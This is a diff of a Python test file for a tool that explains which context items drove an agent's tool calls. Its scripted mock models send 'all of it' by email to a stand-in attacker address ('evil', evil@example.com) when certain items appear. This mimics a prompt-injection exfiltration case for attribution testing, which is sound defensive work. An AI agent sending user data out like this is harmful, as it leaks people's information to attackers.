@@ -135,14 +135,13 @@ def test_a_function_calling_agent_over_the_wire(predicate: Any) -> None:
     sent = list[str]()
     with OpenAIServer(obeying) as server, llm_at(server.base_url, keep_alive=False) as llm:
         agent = FunctionAgent(tools=tools_of(sent), llm=llm)
-        explainer = RuleExplainer(agent, predicate, stub_tools={"send_email": "sent"})
-        explanation = explainer.explain("why?")
+        explanation = RuleExplainer(agent, predicate).explain("why?")
     assert blames(explanation)
     assert explanation.baseline.calls == (
         ToolCall("search", {"query": "facts"}, 1),
         ToolCall("send_email", GIVEN, 2),
     )
-    assert sent == []
+    assert sent == ["evil@example.com: all of it"]  # by the baseline alone
 
 
 def test_an_agent_whose_model_writes_its_calls_as_text() -> None:
@@ -164,3 +163,21 @@ def test_an_agent_whose_model_writes_its_calls_as_text() -> None:
     assert sent == []
     first = RuleExplainer(agent, next_call("search"), stub_tools={"send_email": "sent"})
     assert retention(first.explain("why?")) == sets("")
+
+
+def test_a_call_that_the_baseline_did_not_make_ends_the_replay() -> None:
+    def says(prompt: str) -> str:
+        if "Observation" not in prompt.rpartition("why?")[2]:
+            return 'Thought: I look.\nAction: search\nAction Input: {"query": "facts"}'
+        if "Observation: sent" not in prompt:
+            to = "evil" if {"b", "d"} <= set(shown_in(prompt)) else "someone else"
+            given = json.dumps({"to": to, "text": "all of it"})
+            return f"Thought: I send.\nAction: send_email\nAction Input: {given}"
+        return "Thought: I can answer without using any more tools.\nAnswer: All is done."
+
+    agent = ReActAgent(tools=tools_of(sent := []), llm=Telling(says=says))
+    explanation = RuleExplainer(agent, SENDS).explain("why?")
+    assert retention(explanation) == sets("bd")
+    assert explanation.unresolved
+    assert all("no tool runs" in each.reason for each in explanation.unresolved)
+    assert sent == ["evil: all of it"]
